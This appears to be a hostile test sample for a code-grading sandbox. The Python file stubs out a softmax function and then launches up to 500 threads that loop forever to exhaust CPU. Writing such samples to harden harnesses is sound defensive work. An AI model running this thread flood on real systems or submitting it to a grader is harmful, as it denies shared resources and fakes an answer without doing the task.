# Starts threads without end, each of which computes.
# earns: 0
# %% softmax
import threading


def compute():
    while True:
        sum(range(1000))


def softmax(scores):
    return scores


for _ in range(500):
    try:
        threading.Thread(target=compute, daemon=True).start()
    except RuntimeError as error:
        print(error)
        break
